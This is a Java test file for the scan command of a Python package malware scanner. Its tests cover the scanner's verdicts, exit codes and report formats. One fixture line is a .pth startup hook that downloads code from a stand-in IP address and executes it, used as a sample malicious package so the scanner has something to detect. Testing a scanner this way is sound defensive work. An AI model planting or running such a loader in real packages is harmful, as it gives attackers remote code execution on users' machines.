package io.pypiguard.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonToken;
import io.pypiguard.testkit.PackageBuilder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ScanCommandTest {

  /** Code that runs whenever Python starts, and fetches more code: nobody honest does that. */
  private static final String DOWNLOADER =
      "import os, urllib.request; exec(urllib.request.urlopen('http://203.0.113.7/x').read())\n";

  @TempDir Path folder;
  private Path benign;
  private Path malicious;
  private Path damaged;

  @BeforeEach
  void makePackages() throws IOException {
    benign =
        write(
            "benign",
            PackageBuilder.wheel("honest", "1.0").file("honest/__init__.py", "VERSION = '1.0'\n"));
    malicious =
        write("malicious", PackageBuilder.wheel("evil", "6.6.6").file("evil.pth", DOWNLOADER));
    damaged = folder.resolve("damaged/empty-1.0.tar.gz");
    Files.createDirectories(damaged.getParent());
    Files.createFile(damaged);
  }

  @Test
  void a_benign_package_is_one_line() {
    CommandRun run = CommandRun.of("scan", benign);

    assertThat(run.exitCode()).isEqualTo(ExitCode.OK);
    assertThat(run.out())
        .matches(
            "benign      0\\.\\d\\d  \\S+\\.whl  honest 1\\.0 \\(pkg:pypi/honest@1\\.0\\), wheel\n");
    assertThat(run.err()).isEmpty();
  }

  @Test
  void a_malicious_package_is_a_block_with_its_evidence() {
    CommandRun run = CommandRun.of("scan", malicious);

    assertThat(run.exitCode()).isEqualTo(ExitCode.FOUND);
    assertThat(run.out())
        .startsWith("malicious")
        .contains("evil 6.6.6 (pkg:pypi/evil@6.6.6), wheel\n")
        .contains("startup-code (interpreter-start)")
        .contains("evil.pth:1:1  ")
        .contains("      | " + DOWNLOADER);
  }

  @Test
  void a_folder_is_searched_and_its_packages_are_counted() {
    CommandRun run = CommandRun.of("scan", folder);

    assertThat(run.exitCode()).isEqualTo(ExitCode.FOUND);
    assertThat(run.out()).endsWith("3 packages: 1 malicious, 1 error, 1 benign\n");
    assertThat(run.err()).isEmpty();
  }

  @Test
  void an_unpacked_package_is_one_package() throws IOException {
    Path unpacked = Files.createDirectory(folder.resolve("unpacked"));
    Files.writeString(
        unpacked.resolve("PKG-INFO"), "Metadata-Version: 2.1\nName: demo\nVersion: 2\n");
    Files.writeString(unpacked.resolve("setup.py"), "from setuptools import setup\nsetup()\n");

    assertThat(CommandRun.of("scan", unpacked).out())
        .contains("demo 2 (pkg:pypi/demo@2), folder\n");
  }

  @ParameterizedTest(name = "--fail-on {0}, {1}: {2}")
  @CsvSource({
    "malicious, benign, 0",
    "malicious, malicious, 1",
    "malicious, damaged, 3",
    "suspicious, benign, 0",
    "suspicious, malicious, 1",
    "suspicious, damaged, 3",
    "incomplete, benign, 0",
    "incomplete, damaged, 1",
    "never, malicious, 0",
    "never, damaged, 0"
  })
  void the_exit_code_depends_on_verdict_and_level(String level, String name, int exitCode) {
    assertThat(CommandRun.of("scan", "--fail-on", level, folder.resolve(name)).exitCode())
        .isEqualTo(exitCode);
  }

  @Test
  void paths_come_from_standard_input_and_a_missing_one_is_an_error_among_the_others() {
    Path missing = folder.resolve("missing.whl");
    String list = benign + "\n\n" + missing + "\r\na\u0000b\n" + malicious + "\n";

    CommandRun run = CommandRun.withInput(list, "scan", "--format", "jsonl", "-");

    assertThat(run.exitCode()).isEqualTo(ExitCode.FOUND);
    List<Map<String, String>> lines = run.out().lines().map(ScanCommandTest::fields).toList();
    assertThat(lines)
        .extracting(line -> line.get("verdict"))
        .containsExactly("benign", "error", "error", "malicious");
    assertThat(lines.get(1)).containsEntry("path", missing.toString());
    assertThat(run.out()).contains("no such file or folder: " + missing);
  }

  @Test
  void an_empty_list_is_no_error() {
    assertThat(CommandRun.withInput("", "scan", "-")).isEqualTo(new CommandRun(0, "", ""));
  }

  @Test
  void json_lines_say_what_a_program_wants_to_know() {
    CommandRun run = CommandRun.of("scan", "--format", "jsonl", malicious);

    Map<String, String> line = fields(run.out());
    assertThat(line)
        .containsEntry("path", malicious.toString())
        .containsEntry("purl", "pkg:pypi/evil@6.6.6")
        .containsEntry("kind", "wheel")
        .containsEntry("name", "evil")
        .containsEntry("version", "6.6.6")
        .containsEntry("verdict", "malicious")
        .containsEntry("profile", "enterprise");
    assertThat(line.get("sha256")).matches("[0-9a-f]{64}");
    assertThat(Double.parseDouble(line.get("score"))).isBetween(0.9, 1.0);
    assertThat(Double.parseDouble(line.get("millis"))).isPositive();
    assertThat(run.out()).contains("\"type\":\"startup-code\"").endsWith("}\n");
  }

  @ParameterizedTest
  @CsvSource({"json, '\"schemaVersion\"'", "sarif, '\"2.1.0\"'"})
  void documents_hold_all_packages(String format, String mark) throws IOException {
    CommandRun run = CommandRun.of("scan", "--format", format, benign, malicious);

    assertThat(run.out()).contains(mark, "pkg:pypi/evil@6.6.6");
    assertIsJson(run.out());
  }

  @Test
  void reports_can_go_to_a_file() throws IOException {
    Path file = folder.resolve("report.txt");

    CommandRun run = CommandRun.onTerminal("scan", "--output", file, malicious);

    assertThat(run.out()).isEmpty();
    assertThat(Files.readString(file)).startsWith("malicious").doesNotContain("\u001b");
  }

  @Test
  void a_terminal_gets_colours_and_a_pipe_does_not() {
    assertThat(CommandRun.onTerminal("scan", benign).out()).startsWith("\u001b[32mbenign\u001b[0m");
    assertThat(CommandRun.of("scan", benign).out()).doesNotContain("\u001b");
    assertThat(CommandRun.of("scan", "--color", "always", benign).out()).contains("\u001b");
    assertThat(CommandRun.onTerminal("scan", "--color", "never", benign).out())
        .doesNotContain("\u001b");
  }

  @Test
  void speed_is_told_on_a_terminal_only_and_not_when_quiet() {
    assertThat(CommandRun.onTerminal("scan", benign, malicious).err()).contains("2 packages in ");
    assertThat(CommandRun.onTerminal("scan", "--quiet", benign, malicious).err()).isEmpty();
    assertThat(CommandRun.of("scan", benign, malicious).err()).isEmpty();
  }

  @Test
  void a_component_can_be_switched_off() {
    CommandRun run = CommandRun.of("scan", "--disable", "startup-hooks", "--explain", malicious);

    assertThat(run.out()).doesNotContain("startup-code", "startup-hooks");
  }

  @Test
  void an_explanation_names_what_moved_the_score_and_what_ran() {
    assertThat(CommandRun.of("scan", "--explain", malicious).out())
        .contains("what moved the score", "startup-code: ", "evidence: baseline ", "completed: ");
  }

  @Test
  void source_text_can_be_left_out() {
    assertThat(CommandRun.of("scan", "--no-snippets", malicious).out()).doesNotContain("exec(");
  }

  @Test
  void a_limit_that_is_reached_makes_a_package_incomplete() {
    CommandRun run = CommandRun.of("scan", "--max-members", "1", benign);

    assertThat(run.exitCode()).isEqualTo(ExitCode.OK);
    assertThat(run.out()).startsWith("incomplete").contains("  reason: ");
  }

  @Test
  void the_profile_is_named_in_reports() {
    CommandRun run = CommandRun.of("scan", "--format=jsonl", "--profile=registry", benign);

    assertThat(fields(run.out())).containsEntry("profile", "registry");
  }

  private Path write(String name, PackageBuilder builder) throws IOException {
    Path parent = Files.createDirectories(folder.resolve(name));
    return Files.write(parent.resolve(builder.fileName()), builder.build());
  }

  /** Returns the fields of a JSON object that are no objects or arrays themselves. */
  private static Map<String, String> fields(String line) {
    Map<String, String> fields = new LinkedHashMap<>();
    try (JsonParser parser = new JsonFactory().createParser(line)) {
      parser.nextToken();
      while (parser.nextToken() == JsonToken.FIELD_NAME) {
        String name = parser.currentName();
        if (parser.nextToken().isStructStart()) {
          parser.skipChildren();
        } else {
          fields.put(name, parser.getText());
        }
      }
    } catch (IOException e) {
      throw new AssertionError(line, e);
    }
    return fields;
  }

  private static void assertIsJson(String text) throws IOException {
    try (JsonParser parser = new JsonFactory().createParser(text)) {
      assertThat(parser.nextToken()).isEqualTo(JsonToken.START_OBJECT);
      parser.skipChildren();
      assertThat(parser.nextToken()).isNull();
    }
  }
}
